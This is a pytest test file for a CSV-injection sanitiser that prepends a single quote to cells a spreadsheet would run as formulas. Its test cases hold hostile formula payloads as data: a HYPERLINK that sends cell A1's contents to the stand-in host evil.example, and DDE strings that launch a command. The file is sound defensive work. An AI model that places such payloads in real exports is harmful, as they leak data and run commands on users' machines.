"""CSV cells a spreadsheet would run as formulas get a single quote in front (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io

import pytest

from engine.files.csv_cells import safe_cell, safe_row


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("张三=VIP", "张三=VIP"),  # only the first character matters
        ("-12.50", "-12.50"),  # plain numbers stay numbers
        ("+8613800138000", "+8613800138000"),
        ("-1e5", "-1e5"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_a_cell_a_spreadsheet_would_evaluate_is_quoted(value: object, written: str) -> None:
    assert safe_cell(value) == written


def test_a_written_row_reads_back_with_the_quote_in_the_cell() -> None:
    out = io.StringIO()
    csv.writer(out).writerow(safe_row(["=1+1", "M1", None, "-3"]))

    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "M1", "", "-3"]
